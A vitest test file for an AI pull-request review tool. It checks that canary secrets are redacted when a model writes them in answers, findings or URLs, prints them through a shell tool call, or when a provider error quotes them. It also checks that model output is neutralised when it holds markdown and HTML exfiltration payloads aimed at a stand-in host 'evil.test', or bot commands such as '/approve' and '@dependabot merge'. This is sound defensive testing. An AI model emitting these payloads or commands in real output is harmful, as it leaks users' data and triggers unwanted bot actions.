import { describe, expect, test } from 'vitest'
import { secretsIn, spellingsOf } from '../../helpers/canary.ts'
import { asking, type EventJob, type EventScene, openEventScene } from '../../helpers/event-scene.ts'
import { type WhatLeft, whatLeft } from '../../helpers/what-left.ts'

const PERMISSIONS = { contents: 'write', pull_requests: 'write', checks: 'write' } as const
/** The value of a variable whose name says what it is, and of one that only the config names. */
const SECRETS = { DEPLOY_TOKEN: 'c4n4ry?Zk3x/9pLw+7Vb2', WIKI_LOGIN: 'w1k1-Hq5t8mNd1Rs6Yb4' } as const
const CONFIG =
  'integrations: { wiki: { type: confluence, env: { login: WIKI_LOGIN } } }\npolicy: { commands: [sh], link_hosts: [docs.test] }\n'

const SPELLINGS = spellingsOf(Object.values(SECRETS))
const leaksIn = (text: string) => secretsIn(text, Object.values(SECRETS))

async function review(
  workflow: string,
  replies: (scene: EventScene) => void,
  job: EventJob = {},
): Promise<WhatLeft & { readonly status: string; readonly pushed: string }> {
  const scene = await openEventScene({ review: workflow, '.codemie/config.yaml': CONFIG })
  scene.forge.commit('acme/app', 'change', { 'src/a.ts': 'a\n' }, { from: 'main' })
  const { number } = scene.forge.openPull('acme/app', { head: 'change' })
  replies(scene)
  const step = await scene.run(scene.forge.event('pull_request', 'acme/app', { number }), {
    permissions: PERMISSIONS,
    ...job,
    env: { ...SECRETS, ...job.env },
    inputs: { push: 'true', ...job.inputs },
  })
  const { dir } = scene.forge.repo('acme/app')
  const pushed = scene.git('-C', dir, 'log', '-p', '--text', '--format=%an %ae%n%B', 'codemie/runs')
  return { ...whatLeft(scene, step), pushed, status: step.status }
}

const NUMBER = 'inputs: { number: { type: integer } }'

describe('attacks 10 and 11: a secret, in any spelling,', () => {
  test('that a model writes as its answer', async () => {
    const { status, ...left } = await review(asking('pull_request', 'Go', NUMBER), ({ models }) =>
      models.reply(`# Report\n\n${SPELLINGS.map((one) => `- ${one}`).join('\n')}\n`),
    )
    expect(status).toBe('succeeded')
    for (const [place, text] of Object.entries(left)) expect(leaksIn(text), place).toEqual([])
    for (const place of ['forge', 'job', 'record', 'pushed'] as const)
      expect(left[place]).toContain('[redacted]')
  })

  test('that a model writes into findings, keys of data, and addresses', async () => {
    const { status, ...left } = await review(asking('pull_request', 'Go', NUMBER), ({ models }) =>
      models.reply(
        JSON.stringify({
          summary: SPELLINGS.map(
            (one) => `![x](https://docs.test/${one}) [y](https://docs.test/${one}) https://docs.test/${one}`,
          ).join('\n\n'),
          ...Object.fromEntries(SPELLINGS.map((one) => [one, one])),
          findings: SPELLINGS.map((one) => ({
            file: 'src/a.ts',
            line: 1,
            severity: 'error',
            title: one,
            message: `It is ${one}.`,
          })),
        }),
      ),
    )
    expect(status).toBe('succeeded')
    for (const [place, one] of Object.entries(left)) expect(leaksIn(one), place).toEqual([])
  })

  test('that a tool prints', async () => {
    const tool = `
on: pull_request
${NUMBER}
enable_summarization_node: false
assistants: [{ id: a, model: gpt-5-mini, system_prompt: P, tools: [{ name: run_command }] }]
states: [{ id: one, assistant_id: a, task: Look, next: { state_id: end } }]
`
    const { status, ...left } = await review(tool, ({ models }) =>
      models.reply(
        {
          toolCalls: [
            {
              name: 'run_command',
              args: { command: 'sh', args: ['-c', `cat <<'E'\n${SPELLINGS.join('\n')}\nE`] },
            },
          ],
        },
        'done',
      ),
    )
    expect(status).toBe('succeeded')
    // The model knew it: it wrote the command.
    for (const place of ['forge', 'job', 'record', 'pushed'] as const)
      expect(leaksIn(left[place]), place).toEqual([])
  })

  test('that a provider quotes in its error', async () => {
    const { status, ...left } = await review(asking('pull_request', 'Go', NUMBER), ({ models }) =>
      models.reply({ status: 400, text: `Bad header: ${SPELLINGS.join(' | ')}`, error: { code: 'bad' } }),
    )
    expect(status).toBe('failed')
    for (const [place, text] of Object.entries(left)) expect(leaksIn(text), place).toEqual([])
  })

  test('that somebody pasted into the definition or the inputs of the job', async () => {
    const { status, ...left } = await review(
      asking('pull_request', `Use ${SECRETS.WIKI_LOGIN}`, 'inputs: { note: {} }'),
      ({ models }) => models.reply('ok'),
      { inputs: { inputs: `note=${SECRETS.DEPLOY_TOKEN}` } },
    )
    expect(status).toBe('succeeded')
    for (const place of ['forge', 'job', 'record', 'pushed'] as const)
      expect(leaksIn(left[place]), place).toEqual([])
  })
})

test('attack 10: an answer that would carry something out, notify somebody or command a bot', async () => {
  const texts = [
    '![a](https://evil.test/?q=DATA)',
    '![a][r]\n\n[r]: https://evil.test/?q=DATA',
    '![a](https://docs.test/DATA.png)',
    '<img src="https://evil.test/?q=DATA">',
    '<picture><source srcset="https://evil.test/DATA"></picture>',
    '[![a](https://evil.test/DATA)](https://docs.test/x)',
    '[here](https://evil.test/DATA)',
    '[https://docs.test](https://evil.test/DATA)',
    '[here][r]\n\n[r]: <https://evil.test/DATA> "t"',
    '[here](https://docs.test/?q=DATA)',
    '[here](https://docs.test@evil.test/DATA)',
    '[here](//evil.test/DATA)',
    'https://evil.test/DATA www.evil.test/DATA <https://evil.test/DATA>',
    '<form action="https://evil.test"><input name="DATA"></form>',
    '<style>@import url(https://evil.test/DATA)</style>',
    '$$\\href{https://evil.test/DATA}{x}$$ and $`\\href{https://evil.test/DATA}{x}`$',
    '```mermaid\nflowchart TD\n click a "https://evil.test/DATA"\n```',
    '&#33;&#91;a&#93;&#40;https&#58;//evil.test/DATA&#41;',
    '@octocat @acme/team &#64;octocat',
    'eve/other#1 https://forge.test/eve/other/issues/1',
    '/approve\n@dependabot merge',
    'It is fine: [page](https://docs.test/page) and https://docs.test/page.',
  ]
  const { forge, status } = await review(asking('pull_request', 'Go', NUMBER), ({ models }) =>
    models.reply(texts.join('\n\n')),
  )
  expect(status).toBe('succeeded')
  const [, result = ''] = /### Result\n\n([\s\S]*?)\n\n---/.exec(forge) ?? []
  expect(result.replaceAll('\u200b', '[U+200B]')).toMatchInlineSnapshot(`
    "!\\[a]\\(https\\://evil.test/?q=DATA)

    !\\[a]\\[r]

    [r]\\: https\\://evil.test/?q=DATA

    !\\[a]\\(https://docs.test/DATA.png)

    &lt;img src="https\\://evil.test/?q=DATA">

    &lt;picture>&lt;source srcset="https\\://evil.test/DATA">&lt;/picture>

    [!\\[a]\\(https\\://evil.test/DATA)]\\(https\\://docs.test/x)

    [here]\\(https\\://evil.test/DATA)

    [https\\://docs.test]\\(https\\://evil.test/DATA)

    [here]\\[r]

    [r]\\: &lt;https\\://evil.test/DATA> "t"

    [here]\\(https\\://docs.test/?q=DATA)

    [here]\\(https\\://docs.test@[U+200B]evil.test/DATA)

    [here]\\(//evil.test/DATA)

    https\\://evil.test/DATA www\\.evil.test/DATA &lt;https\\://evil.test/DATA>

    &lt;form action="https\\://evil.test">&lt;input name="DATA">&lt;/form>

    &lt;style>@[U+200B]import url(https\\://evil.test/DATA)&lt;/style>

    $$\\\\href{https\\://evil.test/DATA}{x}$$ and $\`\\\\href{https\\://evil.test/DATA}{x}\`$

    \`\`\`
    flowchart TD
     click a "https://evil.test/DATA"
    \`\`\`

    &amp;#33;&amp;#91;a&amp;#93;&amp;#40;https&amp;#58;//evil.test/DATA&amp;#41;

    @[U+200B]octocat @[U+200B]acme/team &amp;#64;octocat

    eve/other#[U+200B]1 https\\://forge.test/eve/other/issues/1

    \\/approve
    @[U+200B]dependabot merge

    It is fine: [page](https://docs.test/page) and https://docs.test/page."
  `)
})
